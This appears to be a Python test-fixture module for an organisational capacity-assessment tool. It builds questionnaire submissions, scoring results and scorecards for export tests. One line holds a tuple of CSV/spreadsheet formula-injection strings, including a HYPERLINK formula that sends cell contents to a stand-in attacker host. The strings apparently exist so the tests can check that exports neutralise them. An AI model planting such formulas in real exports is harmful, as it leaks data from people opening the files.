"""Shared data of the export and review tests: engine results built in memory, and filled stores.

Scorecards are built straight from `score_assessment` results where no database is
needed (fast, and hypothesis can vary the levels); the store-backed cases use the small
hand-made portfolio of `tests.dashboard_data`, whose every number is known in advance.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Sequence
from pathlib import Path

from capacity.export.scorecard import OrganisationDetails, Scorecard, build_scorecard
from capacity.framework import current_framework
from capacity.questionnaire.layout import ROLE_SELF
from capacity.questionnaire.submission import Answer, Submission
from capacity.scoring import score_assessment
from capacity.scoring.results import AssessmentResult

ROOT = Path(__file__).resolve().parents[1]
ARTIFACTS = ROOT / "test-artifacts"

# Text a hostile upload might carry: each would run as a formula in a spreadsheet.
HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
TURKISH_NAME = "İstanbul Işık Ğüneş Çözüm Derneği — ılık İçerik, Éclair"
FIXED_DAY = dt.date(2026, 3, 31)


def submission(
    organisation_id: str,
    year: int,
    levels: Sequence[int | None],
    *,
    role: str = ROLE_SELF,
    name: str = "Test Organisation",
    respondent: str = "Self",
    evidence: str = "Annual report",
    not_applicable: Sequence[str] = (),
) -> Submission:
    """A questionnaire answering every indicator of a dimension with that dimension's level (None: blank)."""
    framework = current_framework()
    by_dimension = dict(zip((d.code for d in framework.dimensions), levels, strict=True))
    answers = {}
    for indicator in framework.indicators:
        if indicator.code in not_applicable:
            answers[indicator.code] = Answer(code=indicator.code, not_applicable=True)
        else:
            answers[indicator.code] = Answer(
                code=indicator.code, level=by_dimension[indicator.dimension], evidence=evidence
            )
    return Submission(
        framework_id=framework.id,
        framework_version=framework.version,
        organisation_id=organisation_id,
        organisation_name=name,
        year=year,
        respondent_role=role,
        answers=answers,
        organisation_type="ngo",
        country="Türkiye",
        region="Europe",
        respondent_name=respondent,
    )


def results_of(
    *rounds: tuple[int, Sequence[int | None]],
    organisation_id: str = "ORG-1",
    name: str = "Test Organisation",
    evidence: str = "Annual report",
) -> list[AssessmentResult]:
    """The engine's results of one organisation, one self-assessment per (year, levels) round."""
    return [
        score_assessment([submission(organisation_id, year, levels, name=name, evidence=evidence)])
        for year, levels in rounds
    ]


def scorecard_of(
    results: Sequence[AssessmentResult], lang: str = "en", year: int | None = None, name: str | None = None
) -> Scorecard:
    first = results[0]
    details = OrganisationDetails(
        first.organisation_id, name or first.organisation_name, "ngo", "Türkiye", "Europe"
    )
    return build_scorecard(results, details, year, lang, created=FIXED_DAY)
